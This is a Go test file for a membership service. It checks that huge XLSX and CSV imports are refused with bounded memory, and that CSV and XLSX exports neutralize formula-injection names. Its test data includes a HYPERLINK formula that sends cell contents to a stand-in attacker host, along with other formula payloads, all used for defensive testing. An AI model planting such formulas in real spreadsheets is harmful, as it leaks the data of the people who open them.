package orgs_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"runtime"
	"runtime/debug"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/ortaq/ortaq/internal/db"
	"github.com/ortaq/ortaq/internal/db/dbtest"
	"github.com/ortaq/ortaq/internal/orgs"
	"github.com/ortaq/ortaq/internal/tabular/xlsxtest"
)

// heapGrowth runs fn and returns the most the heap grew above where it
// started (runtime.ReadMemStats every millisecond).
func heapGrowth(fn func()) uint64 {
	// Collect garbage nearly at once while fn runs: the peak is then what
	// fn keeps live, not what the package's earlier tests left the
	// collector's target at (a bigger heap lets more garbage pile up
	// between collections, and that was counted as growth).
	defer debug.SetGCPercent(debug.SetGCPercent(5))
	runtime.GC()
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	base := m.HeapAlloc
	var peak atomic.Uint64
	stop, done := make(chan struct{}), make(chan struct{})
	go func() {
		defer close(done)
		for {
			var m runtime.MemStats
			runtime.ReadMemStats(&m)
			if m.HeapAlloc > peak.Load() {
				peak.Store(m.HeapAlloc)
			}
			select {
			case <-stop:
				return
			case <-time.After(time.Millisecond):
			}
		}
	}()
	fn()
	close(stop)
	<-done
	return max(peak.Load(), base) - base
}

// An XLSX member file of millions of rows, a few hundred kilobytes packed,
// is refused with a message while the heap stays bounded, and nothing is
// written; the row cap is the same as for CSV.
func TestHugeMemberFileIsRefused(t *testing.T) {
	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
		f := setup(t, d)
		org := f.mustCreate(t, 0, "primary_organization", "Орал бастауыш ұйымы", "")
		token, err := f.env.App.Auth.CreateToken(ctx, f.admin.User, "script", f.admin.User.ID)
		if err != nil {
			t.Fatal(err)
		}
		c := f.env.Client()
		header := `<row r="1"><c t="inlineStr"><is><t>Аты-жөні</t></is></c><c t="inlineStr"><is><t>Почта</t></is></c>` +
			`<c t="inlineStr"><is><t>Роль</t></is></c></row>`
		member := `<row><c t="inlineStr"><is><t>Мүше</t></is></c><c t="inlineStr"><is><t>m@example.kz</t></is></c>` +
			`<c t="inlineStr"><is><t>member</t></is></c></row>`
		sheet := func(p ...xlsxtest.Piece) []byte {
			return xlsxtest.Build(xlsxtest.Options{Rows: append([]xlsxtest.Piece{xlsxtest.Text(header)}, p...)})
		}
		var csvFile strings.Builder
		csvFile.WriteString("name,email,role\n")
		for i := range orgs.MaxImportRows + 1 {
			fmt.Fprintf(&csvFile, "Мүше %d,m%d@example.kz,member\n", i, i)
		}
		files := []struct {
			name, file string
			data       []byte
			status     int
			message    string
		}{
			{"3 million tiny rows", "members.xlsx", sheet(xlsxtest.Repeat(`<row><c><v>1</v></c></row>`, 3_000_000)), 413, "64 МБ"},
			{"3 million empty rows", "members.xlsx", sheet(xlsxtest.Repeat(`<row/>`, 3_000_000)), 422, "строк"},
			{"one member too many (XLSX)", "members.xlsx", sheet(xlsxtest.Repeat(member, orgs.MaxImportRows+1)), 422, "строк"},
			{"one member too many (CSV)", "members.csv", []byte(csvFile.String()), 422, "строк"},
		}
		for _, file := range files {
			var status int
			var body string
			grew := heapGrowth(func() {
				r := upload(t, f.env, c, fmt.Sprintf("/api/v1/organizations/%d/members/import", org.ID), token, file.file, file.data)
				status, body = r.StatusCode, r.Body
			})
			t.Logf("%s: %d KB: %d, heap +%d MB", file.name, len(file.data)>>10, status, grew>>20)
			var p struct{ Detail string }
			json.Unmarshal([]byte(body), &p)
			if status != file.status || !strings.Contains(p.Detail, file.message) {
				t.Errorf("%s: %d %s", file.name, status, body)
			}
			if grew > 64<<20 {
				t.Errorf("%s: the heap grew by %d MB", file.name, grew>>20)
			}
		}
		var people, members int
		d.QueryRow(ctx, "SELECT COUNT(*) FROM users WHERE email LIKE 'm%@example.kz'").Scan(&people)
		d.QueryRow(ctx, "SELECT COUNT(*) FROM memberships WHERE org_id = ?", org.ID).Scan(&members)
		if people != 0 || members != 0 {
			t.Errorf("refused files wrote %d people, %d memberships", people, members)
		}
		// The last member fewer: all in.
		three := xlsxtest.Text(strings.Replace(member, "m@", "m1@", 1) + strings.Replace(member, "m@", "m2@", 1) + strings.Replace(member, "m@", "m3@", 1))
		r := upload(t, f.env, c, fmt.Sprintf("/api/v1/organizations/%d/members/import", org.ID), token, "members.xlsx", sheet(three))
		if r.StatusCode != 200 || !strings.Contains(r.Body, `"created":3`) {
			t.Errorf("small XLSX: %d %s", r.StatusCode, r.Body)
		}
	})
}

var formulas = []string{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+1", "-2+3", "@SUM(A1)"}

// Names that a spreadsheet would run as formulas come out of the member
// and organization exports, CSV and XLSX, with a leading apostrophe.
func TestExportsNeutralizeFormulas(t *testing.T) {
	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
		f := setup(t, d)
		var orgIDs []int64
		for i, name := range formulas {
			o := f.mustCreate(t, 0, "council", name, fmt.Sprintf("Совет %d", i))
			orgIDs = append(orgIDs, o.ID)
		}
		var file strings.Builder
		w := csv.NewWriter(&file)
		w.Write([]string{"name", "email", "role"})
		for i, name := range formulas {
			w.Write([]string{name, fmt.Sprintf("f%d@example.kz", i), "member"})
		}
		w.Flush()
		if _, err := f.svc.ImportMembers(ctx, f.admin.User, orgIDs[0], []byte(file.String())); err != nil {
			t.Fatal(err)
		}
		adm := f.env.Client()
		adm.SignIn(f.admin)
		check := func(what string, rows [][]string, col int) {
			t.Helper()
			found := 0
			for _, row := range rows {
				if col >= len(row) {
					continue
				}
				v := row[col]
				for _, bad := range formulas {
					switch v {
					case "'" + bad:
						found++
					case bad, "FORMULA:" + strings.TrimPrefix(bad, "="):
						t.Errorf("%s: %q is not neutralized", what, v)
					}
				}
			}
			if found != len(formulas) {
				t.Errorf("%s: %d of %d names neutralized: %q", what, found, len(formulas), rows)
			}
		}
		for _, format := range []string{"csv", "xlsx"} {
			for _, e := range []struct {
				what, path string
				col        int
			}{
				{"members", fmt.Sprintf("/kk/organizations/%d/members/export?format=%s", orgIDs[0], format), 0},
				{"organizations", "/kk/organizations/export?kind=council&format=" + format, 3},
			} {
				r := adm.Get(e.path)
				if r.StatusCode != 200 {
					t.Fatalf("%s %s: %d", e.what, format, r.StatusCode)
				}
				var rows [][]string
				var err error
				if format == "csv" {
					rows, err = csv.NewReader(strings.NewReader(strings.TrimPrefix(r.Body, "\ufeff"))).ReadAll()
				} else {
					rows, err = xlsxtest.Cells([]byte(r.Body))
				}
				if err != nil {
					t.Fatalf("%s %s: %v", e.what, format, err)
				}
				check(e.what+" "+format, rows, e.col)
			}
		}
		// An export imports again unchanged.
		var buf strings.Builder
		if err := f.svc.ExportMembers(ctx, f.admin.User, orgIDs[0], &buf, orgs.XLSX); err != nil {
			t.Fatal(err)
		}
		res, err := f.svc.ImportMembers(ctx, f.admin.User, orgIDs[0], []byte(buf.String()))
		if err != nil || res.Unchanged != len(formulas) || res.Created != 0 {
			t.Errorf("re-import: %+v %v", res, err)
		}
	})
}
